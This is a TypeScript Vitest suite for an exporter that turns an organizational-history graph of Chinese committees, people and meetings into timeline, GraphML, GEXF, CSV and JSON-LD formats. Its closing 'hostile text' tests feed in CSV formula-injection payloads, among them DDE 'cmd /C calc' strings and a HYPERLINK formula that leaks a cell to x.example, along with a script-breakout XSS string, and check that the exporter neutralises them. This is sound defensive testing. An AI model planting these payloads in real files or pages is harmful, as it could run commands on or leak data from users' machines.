import { describe, expect, it } from 'vitest';
import type { EntityRecord, EntityRecordOf, RelationRecord } from '../../src/model/records.js';
import type { EntityTypeName } from '../../src/model/vocabulary.js';
import { EXPORT_FORMATS, isExportFormat, renderExport } from '../../src/export/formats.js';
import type { TimelineJsDocument } from '../../src/export/formats/timelinejs.js';
import type { VisTimelineDocument } from '../../src/export/formats/vis-timeline.js';
import { escapeXml } from '../../src/export/formats/xml.js';
import type { GraphSlice } from '../../src/export/slice.js';

// A small slice with the shapes that matter: a person, an organization whose names need escaping,
// a place, a term-long interval event, a month-precision event and a two-day meeting.
function entity<T extends EntityTypeName>(
  id: string,
  type: T,
  zh: string,
  en: string | null,
  extra: Partial<EntityRecordOf<T>> = {},
): EntityRecordOf<T> {
  const names = en === null ? [zh] : [zh, en];
  return {
    id,
    type,
    name: zh,
    nameValues: names,
    nameLangs: en === null ? ['zh-Hans'] : ['zh-Hans', 'en'],
    nameKinds: names.map(() => 'PRIMARY'),
    ...extra,
  };
}

const person = entity('p-luo', 'PERSON', '罗富和', 'Luo Fuhe', { descriptionZh: '主委', descriptionEn: 'Chair' });
person.nameValues.push('Luó Fùhé');
person.nameLangs.push('pinyin');
person.nameKinds.push('PRIMARY');
const org = entity('o-gd', 'ORGANIZATION', '民进"广东"省委', 'Ann "Quoted" & <Co>, Ltd.', {
  kind: 'COMMITTEE',
  descriptionZh: '第一行,含逗号\n第二行 & <标签>',
  descriptionEn: 'Line one, with comma\nline "two"',
});
const place = entity('pl-qy', 'PLACE', '清远市', 'Qingyuan City', { kind: 'CITY' });
const term = entity('e-term', 'EVENT', '两次岗位调整', 'Two post reshuffles', {
  kind: 'PERSONNEL',
  edtf: '2002-06/2006-07',
  descriptionZh: '本届内',
});
const rules = entity('e-rules', 'EVENT', '形成规章制度', null, { kind: 'REGULATION', edtf: '2002-06/2006-07' });
const meeting = entity('e-zs', 'EVENT', '机关建设座谈会(中山)', 'Symposium in Zhongshan', {
  kind: 'MEETING',
  edtf: '2002-07',
  descriptionEn: 'Set the goal.',
});
const qingyuan = entity('e-qy', 'EVENT', '清远座谈会', 'Qingyuan symposium', { kind: 'MEETING', edtf: '2006-07-07/2006-07-08' });
const campaign = entity('e-2003', 'EVENT', '作风建设年', 'Work-style year', { kind: 'CAMPAIGN', edtf: '2003~' });

function relation(
  id: string,
  type: RelationRecord['type'],
  from: EntityRecord,
  to: EntityRecord,
  extra: Partial<RelationRecord> = {},
): RelationRecord {
  return { id, type, from, to, ...extra };
}

const slice: GraphSlice = {
  entities: [org, person, place, term, rules, meeting, qingyuan, campaign],
  relations: [
    relation('r-held', 'HELD_POSITION', person, org, { title: '主委', titleEn: 'Chair', attestedEdtf: '2003' }),
    relation('r-part', 'PARTICIPATED_IN', person, qingyuan, { role: '主持', roleEn: 'chaired' }),
    relation('r-org', 'ORGANIZED', org, meeting),
    relation('r-place', 'TOOK_PLACE_IN', qingyuan, place),
    relation('r-follow', 'FOLLOWED', qingyuan, meeting),
    relation('r-term', 'HELD_POSITION', person, org, {
      title: '委员',
      periodEdtf: '2002-06/2006-07',
      earliest: '2002-06-01',
      latest: '2006-07-31',
    }),
  ],
  citations: new Map([
    [
      'r-held',
      [
        { sourceId: 's1', quote: '罗富和主委, "亲任" & <组长>' },
        { sourceId: 's1', quote: '第二句' },
      ],
    ],
  ]),
  generatedAt: '2024-01-02T03:04:05.000Z',
};

const render = (format: (typeof EXPORT_FORMATS)[number], lang: 'zh' | 'en' = 'zh') => renderExport(format, slice, { lang });

/** An independent RFC 4180 reader, so the CSV test does not check the writer against itself. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (quoted) {
      if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') {
      quoted = true;
    } else if (c === ',' || c === '\r') {
      row.push(field);
      field = '';
      if (c === '\r') {
        rows.push(row);
        row = [];
        i++; // the LF of CRLF
      }
    } else {
      field += c;
    }
  }
  return rows;
}

describe('renderExport', () => {
  it('renders every format with a content type and a filename naming format and language', () => {
    for (const format of EXPORT_FORMATS) {
      const out = render(format, 'en');
      expect(out.body.length).toBeGreaterThan(0);
      expect(out.filename).toMatch(/^annals-en\./);
      expect(out.contentType).toMatch(/charset=utf-8$/);
    }
    expect(render('nodes.csv').contentType).toBe('text/csv; charset=utf-8');
    expect(isExportFormat('gexf')).toBe(true);
    expect(isExportFormat('pdf')).toBe(false);
    expect(() => renderExport('pdf' as 'gexf', slice, { lang: 'zh' })).toThrow('unknown export format "pdf"');
  });
});

describe('timelinejs', () => {
  const doc = (lang: 'zh' | 'en'): TimelineJsDocument => JSON.parse(render('timelinejs', lang).body) as TimelineJsDocument;
  const byId = (lang: 'zh' | 'en') => new Map(doc(lang).events.map((e) => [e.unique_id, e]));

  it('gives month and day only at the precision the date has, as numbers', () => {
    const ev = byId('zh');
    expect(ev.get('e-zs')?.start_date).toEqual({ year: 2002, month: 7 });
    expect(ev.get('e-zs')?.end_date).toBeUndefined();
    expect(ev.get('e-qy')?.start_date).toEqual({ year: 2006, month: 7, day: 7 });
    expect(ev.get('e-qy')?.end_date).toEqual({ year: 2006, month: 7, day: 8 });
    expect(ev.get('e-term')?.start_date).toEqual({ year: 2002, month: 6 });
    expect(ev.get('e-term')?.end_date).toEqual({ year: 2006, month: 7 });
    // "c. 2003" is placed at 2003 (not its widened bound 2002) and has no month.
    expect(ev.get('e-2003')?.start_date).toEqual({ year: 2003 });
    expect(doc('zh').events).toHaveLength(5);
  });

  it('exports "at some time within" ([2002-06..2006-07]) without an end date, and says so in the text', () => {
    const within = entity('e-within', 'EVENT', '两次大的岗位调整', 'Two major post reshuffles', {
      kind: 'PERSONNEL',
      edtf: '[2002-06..2006-07]',
    });
    for (const lang of ['zh', 'en'] as const) {
      const out = JSON.parse(
        renderExport('timelinejs', { ...slice, entities: [within], relations: [] }, { lang }).body,
      ) as TimelineJsDocument;
      const [ev] = out.events;
      expect(ev?.start_date).toEqual({ year: 2002, month: 6 });
      expect(ev?.end_date).toBeUndefined();
      expect(out.eras).toEqual([]);
      expect(ev?.display_date).toBe(lang === 'zh' ? '2002年6月至2006年7月间某时' : 'some time between June 2002 and July 2006');
      expect(ev?.text.text).toContain(lang === 'zh' ? '不是持续的期间' : 'not a span');
    }
  });

  it('labels dates in the reader’s language', () => {
    const zh = byId('zh');
    const en = byId('en');
    expect(zh.get('e-zs')?.display_date).toBe('2002年7月');
    expect(en.get('e-zs')?.display_date).toBe('July 2002');
    expect(zh.get('e-qy')?.display_date).toBe('2006年7月7日至8日');
    expect(en.get('e-qy')?.display_date).toBe('7–8 July 2006');
    expect(zh.get('e-term')?.display_date).toBe('2002年6月至2006年7月');
    expect(en.get('e-2003')?.display_date).toBe('c. 2003');
  });

  it('builds headline, text and group, escaping HTML', () => {
    const zh = byId('zh').get('e-qy');
    const en = byId('en').get('e-qy');
    expect(zh?.text.headline).toBe('清远座谈会');
    expect(en?.text.headline).toBe('清远座谈会 (Qingyuan symposium)');
    expect(zh?.text.text).toBe('<p>地点：清远市</p><p>参与：罗富和</p>');
    expect(en?.text.text).toBe('<p>Place: Qingyuan City</p><p>Participants: Luo Fuhe</p>');
    expect(zh?.group).toBe('会议');
    expect(en?.group).toBe('Meeting');
    expect(byId('zh').get('e-zs')?.text.text).toBe('<p>Set the goal.</p><p>主办：民进&#34;广东&#34;省委</p>');
    expect(byId('en').get('e-zs')?.text.text).toContain('Organized by: Ann &#34;Quoted&#34; &#38; &#60;Co&#62;, Ltd.');
  });

  it('turns spans longer than a year into one era per span', () => {
    expect(doc('en').eras).toEqual([
      { start_date: { year: 2002, month: 6 }, end_date: { year: 2006, month: 7 }, text: { headline: 'June 2002 – July 2006' } },
    ]);
    expect(doc('zh').title.text.headline).toBe('组织史大事记');
  });
});

describe('vis-timeline', () => {
  it('gives points and ranges with ISO dates, grouped by kind', () => {
    const doc = JSON.parse(render('vis-timeline', 'en').body) as VisTimelineDocument;
    const items = new Map(doc.items.map((i) => [i.id, i]));
    expect(items.get('e-zs')).toEqual({
      id: 'e-zs',
      content: '机关建设座谈会(中山) (Symposium in Zhongshan)',
      start: '2002-07-01',
      type: 'point',
      group: 'MEETING',
      title: 'July 2002 — Set the goal.',
    });
    expect(items.get('e-term')).toMatchObject({ type: 'range', start: '2002-06-01', end: '2006-07-31' });
    expect(doc.groups.map((g) => g.id)).toEqual(['CAMPAIGN', 'MEETING', 'PERSONNEL', 'REGULATION']);
    expect(doc.groups.map((g) => g.content)).toEqual(['Campaign', 'Meeting', 'Personnel', 'Rules']);
    const zh = JSON.parse(render('vis-timeline', 'zh').body) as VisTimelineDocument;
    expect(zh.groups.map((g) => g.content)).toEqual(['活动', '会议', '人事', '制度']);
  });
});

describe('graphml', () => {
  const xml = render('graphml').body;

  it('escapes quotes, ampersands, angle brackets and line breaks', () => {
    expect(xml).toContain('<data key="n_label">民进&quot;广东&quot;省委</data>');
    expect(xml).toContain('<data key="n_name_en">Ann &quot;Quoted&quot; &amp; &lt;Co&gt;, Ltd.</data>');
    expect(xml).toContain('第一行,含逗号&#10;第二行 &amp; &lt;标签&gt;');
    expect(xml).not.toMatch(/<data key="[a-z_]+"><\/data>/);
  });

  it('drops characters XML 1.0 cannot carry and keeps tabs and line breaks as references', () => {
    expect(escapeXml("a\u0007b\u0000c\td\r\n中'")).toBe('abc&#9;d&#13;&#10;中&apos;');
  });

  it('is pinned', () => {
    expect(xml).toMatchInlineSnapshot(`
      "<?xml version="1.0" encoding="UTF-8"?>
      <graphml xmlns="http://graphml.graphdrawing.org/xmlns" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://graphml.graphdrawing.org/xmlns http://graphml.graphdrawing.org/xmlns/1.0/graphml.xsd">
        <key id="n_label" for="node" attr.name="label" attr.type="string"/>
        <key id="n_type" for="node" attr.name="type" attr.type="string"/>
        <key id="n_kind" for="node" attr.name="kind" attr.type="string"/>
        <key id="n_name_en" for="node" attr.name="name_en" attr.type="string"/>
        <key id="n_pinyin" for="node" attr.name="pinyin" attr.type="string"/>
        <key id="n_description" for="node" attr.name="description" attr.type="string"/>
        <key id="n_start" for="node" attr.name="start" attr.type="string"/>
        <key id="n_end" for="node" attr.name="end" attr.type="string"/>
        <key id="e_type" for="edge" attr.name="type" attr.type="string"/>
        <key id="e_label" for="edge" attr.name="label" attr.type="string"/>
        <key id="e_start" for="edge" attr.name="start" attr.type="string"/>
        <key id="e_end" for="edge" attr.name="end" attr.type="string"/>
        <key id="e_citations" for="edge" attr.name="citations" attr.type="string"/>
        <graph id="annals" edgedefault="directed">
          <node id="o-gd">
            <data key="n_label">民进&quot;广东&quot;省委</data>
            <data key="n_type">ORGANIZATION</data>
            <data key="n_kind">COMMITTEE</data>
            <data key="n_name_en">Ann &quot;Quoted&quot; &amp; &lt;Co&gt;, Ltd.</data>
            <data key="n_description">第一行,含逗号&#10;第二行 &amp; &lt;标签&gt;</data>
          </node>
          <node id="p-luo">
            <data key="n_label">罗富和</data>
            <data key="n_type">PERSON</data>
            <data key="n_name_en">Luo Fuhe</data>
            <data key="n_pinyin">Luó Fùhé</data>
            <data key="n_description">主委</data>
          </node>
          <node id="pl-qy">
            <data key="n_label">清远市</data>
            <data key="n_type">PLACE</data>
            <data key="n_kind">CITY</data>
            <data key="n_name_en">Qingyuan City</data>
          </node>
          <node id="e-term">
            <data key="n_label">两次岗位调整</data>
            <data key="n_type">EVENT</data>
            <data key="n_kind">PERSONNEL</data>
            <data key="n_name_en">Two post reshuffles</data>
            <data key="n_description">本届内</data>
            <data key="n_start">2002-06-01</data>
            <data key="n_end">2006-07-31</data>
          </node>
          <node id="e-rules">
            <data key="n_label">形成规章制度</data>
            <data key="n_type">EVENT</data>
            <data key="n_kind">REGULATION</data>
            <data key="n_start">2002-06-01</data>
            <data key="n_end">2006-07-31</data>
          </node>
          <node id="e-zs">
            <data key="n_label">机关建设座谈会(中山)</data>
            <data key="n_type">EVENT</data>
            <data key="n_kind">MEETING</data>
            <data key="n_name_en">Symposium in Zhongshan</data>
            <data key="n_description">Set the goal.</data>
            <data key="n_start">2002-07-01</data>
            <data key="n_end">2002-07-31</data>
          </node>
          <node id="e-qy">
            <data key="n_label">清远座谈会</data>
            <data key="n_type">EVENT</data>
            <data key="n_kind">MEETING</data>
            <data key="n_name_en">Qingyuan symposium</data>
            <data key="n_start">2006-07-07</data>
            <data key="n_end">2006-07-08</data>
          </node>
          <node id="e-2003">
            <data key="n_label">作风建设年</data>
            <data key="n_type">EVENT</data>
            <data key="n_kind">CAMPAIGN</data>
            <data key="n_name_en">Work-style year</data>
            <data key="n_start">2002-01-01</data>
            <data key="n_end">2004-12-31</data>
          </node>
          <edge id="r-held" source="p-luo" target="o-gd">
            <data key="e_type">HELD_POSITION</data>
            <data key="e_label">主委</data>
            <data key="e_start">2003-01-01</data>
            <data key="e_end">2003-12-31</data>
            <data key="e_citations">罗富和主委, &quot;亲任&quot; &amp; &lt;组长&gt; | 第二句</data>
          </edge>
          <edge id="r-part" source="p-luo" target="e-qy">
            <data key="e_type">PARTICIPATED_IN</data>
            <data key="e_label">主持</data>
          </edge>
          <edge id="r-org" source="o-gd" target="e-zs">
            <data key="e_type">ORGANIZED</data>
          </edge>
          <edge id="r-place" source="e-qy" target="pl-qy">
            <data key="e_type">TOOK_PLACE_IN</data>
          </edge>
          <edge id="r-follow" source="e-qy" target="e-zs">
            <data key="e_type">FOLLOWED</data>
          </edge>
          <edge id="r-term" source="p-luo" target="o-gd">
            <data key="e_type">HELD_POSITION</data>
            <data key="e_label">委员</data>
            <data key="e_start">2002-06-01</data>
            <data key="e_end">2006-07-31</data>
          </edge>
        </graph>
      </graphml>
      "
    `);
  });
});

describe('gexf', () => {
  const xml = render('gexf', 'en').body;

  it('is a dynamic GEXF 1.3 graph with lifetimes on events and dated ties only', () => {
    expect(xml).toContain('<gexf xmlns="http://gexf.net/1.3"');
    expect(xml).toContain('version="1.3"');
    expect(xml).toContain('<graph defaultedgetype="directed" mode="dynamic" timeformat="date">');
    expect(xml).toContain('<attributes class="node">');
    expect(xml).toContain('<attributes class="edge">');
    expect(xml).toContain('<node id="e-qy" label="清远座谈会" start="2006-07-07" end="2006-07-08">');
    expect(xml).toContain('<node id="p-luo" label="罗富和">');
    // An attested position lives for the attestation's span; a period for the period's.
    expect(xml).toContain(
      '<edge id="r-held" source="p-luo" target="o-gd" label="Chair" kind="HELD_POSITION" start="2003-01-01" end="2003-12-31">',
    );
    expect(xml).toContain(
      '<edge id="r-term" source="p-luo" target="o-gd" label="委员" kind="HELD_POSITION" start="2002-06-01" end="2006-07-31">',
    );
    expect(xml).toContain('<edge id="r-org" source="o-gd" target="e-zs" kind="ORGANIZED">');
    expect(xml).toContain('<attvalue for="citations" value="罗富和主委, &quot;亲任&quot; &amp; &lt;组长&gt; | 第二句"/>');
    expect(xml).toContain('<attvalue for="description" value="Line one, with comma&#10;line &quot;two&quot;"/>');
  });
});

describe('csv', () => {
  it('writes RFC 4180 nodes with quoting only where needed', () => {
    const { body } = render('nodes.csv');
    expect(body.charCodeAt(0)).not.toBe(0xfeff);
    expect(body.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(body);
    expect(rows[0]).toEqual(['id', 'type', 'name', 'name_en', 'kind', 'start', 'end', 'precision', 'description']);
    expect(rows.find((r) => r[0] === 'o-gd')).toEqual([
      'o-gd',
      'ORGANIZATION',
      '民进"广东"省委',
      'Ann "Quoted" & <Co>, Ltd.',
      'COMMITTEE',
      '',
      '',
      '',
      '第一行,含逗号\n第二行 & <标签>',
    ]);
    expect(rows.find((r) => r[0] === 'e-zs')).toEqual([
      'e-zs',
      'EVENT',
      '机关建设座谈会(中山)',
      'Symposium in Zhongshan',
      'MEETING',
      '2002-07-01',
      '2002-07-31',
      'MONTH',
      'Set the goal.',
    ]);
    expect(body).toContain('\r\np-luo,PERSON,罗富和,Luo Fuhe,,,,,主委\r\n');
    // CRLF shown as ␍␊ so the snapshot pins record ends apart from the LF inside a field.
    expect(body.replaceAll('\r\n', '␍␊\n')).toMatchInlineSnapshot(`
      "id,type,name,name_en,kind,start,end,precision,description␍␊
      o-gd,ORGANIZATION,"民进""广东""省委","Ann ""Quoted"" & <Co>, Ltd.",COMMITTEE,,,,"第一行,含逗号
      第二行 & <标签>"␍␊
      p-luo,PERSON,罗富和,Luo Fuhe,,,,,主委␍␊
      pl-qy,PLACE,清远市,Qingyuan City,CITY,,,,␍␊
      e-term,EVENT,两次岗位调整,Two post reshuffles,PERSONNEL,2002-06-01,2006-07-31,MONTH,本届内␍␊
      e-rules,EVENT,形成规章制度,,REGULATION,2002-06-01,2006-07-31,MONTH,␍␊
      e-zs,EVENT,机关建设座谈会(中山),Symposium in Zhongshan,MEETING,2002-07-01,2002-07-31,MONTH,Set the goal.␍␊
      e-qy,EVENT,清远座谈会,Qingyuan symposium,MEETING,2006-07-07,2006-07-08,DAY,␍␊
      e-2003,EVENT,作风建设年,Work-style year,CAMPAIGN,2002-01-01,2004-12-31,YEAR,␍␊
      "
    `);
  });

  it('writes edges with labels in the reader’s language and joined citations', () => {
    const rows = parseCsv(render('edges.csv', 'en').body);
    expect(rows[0]).toEqual(['id', 'source', 'target', 'type', 'label', 'start', 'end', 'citations']);
    expect(rows.find((r) => r[0] === 'r-held')).toEqual([
      'r-held',
      'p-luo',
      'o-gd',
      'HELD_POSITION',
      'Chair',
      '2003-01-01',
      '2003-12-31',
      '罗富和主委, "亲任" & <组长> | 第二句',
    ]);
    expect(rows.find((r) => r[0] === 'r-part')?.[4]).toBe('chaired');
    expect(rows).toHaveLength(slice.relations.length + 1);
  });
});

describe('jsonld', () => {
  type Node = Record<string, unknown>;
  const doc = JSON.parse(render('jsonld', 'en').body) as { '@context': unknown; '@graph': Node[] };
  const node = (id: string): Node | undefined => doc['@graph'].find((n) => n['@id'] === `urn:annals:${id}`);

  it('types entities in schema.org and dates events at their precision', () => {
    expect(doc['@context']).toEqual(['https://schema.org/', { wd: 'http://wikiba.se/ontology#', annals: 'urn:annals:' }]);
    expect(node('p-luo')).toMatchObject({
      '@type': 'Person',
      name: '罗富和',
      alternateName: [
        { '@value': 'Luo Fuhe', '@language': 'en' },
        { '@value': 'Luó Fùhé', '@language': 'zh-Latn-pinyin' },
      ],
      description: 'Chair',
    });
    expect(node('pl-qy')?.['@type']).toBe('Place');
    expect(node('e-zs')).toMatchObject({ '@type': 'Event', startDate: '2002-07', 'wd:timePrecision': 10 });
    expect(node('e-zs')?.['endDate']).toBeUndefined();
    expect(node('e-qy')).toMatchObject({ startDate: '2006-07-07', endDate: '2006-07-08', 'wd:timePrecision': 11 });
    expect(node('e-2003')).toMatchObject({ startDate: '2003', 'wd:timePrecision': 9 });
  });

  it('maps relationships onto schema.org properties, the rest onto annals:relations', () => {
    expect(node('p-luo')?.['memberOf']).toEqual([
      { '@type': 'OrganizationRole', memberOf: { '@id': 'urn:annals:o-gd' }, roleName: 'Chair', 'annals:attested': '2003' },
      { '@type': 'OrganizationRole', memberOf: { '@id': 'urn:annals:o-gd' }, roleName: '委员', startDate: '2002-06', endDate: '2006-07' },
    ]);
    expect(node('e-qy')?.['location']).toEqual([{ '@id': 'urn:annals:pl-qy' }]);
    expect(node('e-qy')?.['attendee']).toEqual([{ '@type': 'Role', attendee: { '@id': 'urn:annals:p-luo' }, roleName: 'chaired' }]);
    expect(node('e-zs')?.['organizer']).toEqual([{ '@id': 'urn:annals:o-gd' }]);
    expect(node('e-qy')?.['annals:relations']).toEqual([
      { '@id': 'urn:annals:r-follow', 'annals:type': 'FOLLOWED', 'annals:target': { '@id': 'urn:annals:e-zs' } },
    ]);
  });
});

describe('hostile text', () => {
  const evil = entity('e-evil', 'EVENT', '=HYPERLINK("http://x.example/?"&A1,"click")', '+cmd|" /C calc"!A0', {
    kind: 'MEETING',
    edtf: '2003',
    descriptionEn: '@SUM(1+1)*cmd|" /C calc"!A0',
    descriptionZh: '-2+3',
  });
  const tabbed = entity('p-tab', 'PERSON', '\t=1+1', '\r=1+1', { descriptionEn: '-42', descriptionZh: '-' });
  const script = entity('o-script', 'ORGANIZATION', '</script><script>alert(1)</script>', 'a & b > c \u2028 \u2029', {});
  const hostile: GraphSlice = {
    entities: [evil, tabbed, script],
    relations: [relation('=r1', 'ORGANIZED', script, evil, { title: '@title', titleEn: '-1' })],
    citations: new Map([['=r1', [{ sourceId: 's', quote: '=cmd()' }]]]),
    generatedAt: slice.generatedAt,
  };

  it('neutralizes spreadsheet formulas in CSV cells (OWASP: a leading quote), leaving real numbers alone', () => {
    const nodes = parseCsv(renderExport('nodes.csv', hostile, { lang: 'en' }).body);
    const row = (id: string) => nodes.find((r) => r[0] === id)!;
    expect(row('e-evil')[2]).toBe('\'=HYPERLINK("http://x.example/?"&A1,"click")');
    expect(row('e-evil')[3]).toBe('\'+cmd|" /C calc"!A0');
    expect(row('e-evil')[8]).toBe('\'@SUM(1+1)*cmd|" /C calc"!A0');
    expect(row('p-tab')[2]).toBe("'\t=1+1");
    expect(row('p-tab')[3]).toBe("'\r=1+1");
    expect(row('p-tab')[8]).toBe('-42');
    expect(parseCsv(renderExport('nodes.csv', hostile, { lang: 'zh' }).body).find((r) => r[0] === 'p-tab')![8]).toBe("'-");
    const edges = parseCsv(renderExport('edges.csv', hostile, { lang: 'zh' }).body);
    expect(edges[1]).toEqual(["'=r1", 'o-script', 'e-evil', 'ORGANIZED', "'@title", '', '', "'=cmd()"]);
    expect(parseCsv(renderExport('edges.csv', hostile, { lang: 'en' }).body)[1]![4]).toBe('-1');
    for (const rows of [nodes, edges]) for (const cells of rows) for (const cell of cells) expect(cell).not.toMatch(/^[=+@\t\r]/);
  });

  it('writes JSON that can sit in a <script> element, with the same value', () => {
    for (const format of ['jsonld', 'timelinejs', 'vis-timeline'] as const) {
      const { body } = renderExport(format, hostile, { lang: 'en' });
      expect(body).not.toMatch(/[<>&\u2028\u2029]/);
      expect(JSON.parse(body)).toEqual(
        JSON.parse(
          body
            .replace(/\\u003c/g, '<')
            .replace(/\\u003e/g, '>')
            .replace(/\\u0026/g, '&'),
        ),
      );
    }
    const doc = JSON.parse(renderExport('jsonld', hostile, { lang: 'en' }).body) as {
      '@graph': { name: string; alternateName?: { '@value': string }[] }[];
    };
    expect(doc['@graph'].map((n) => n.name)).toContain('</script><script>alert(1)</script>');
    expect(JSON.stringify(doc)).toContain('a & b > c \u2028 \u2029');
  });
});
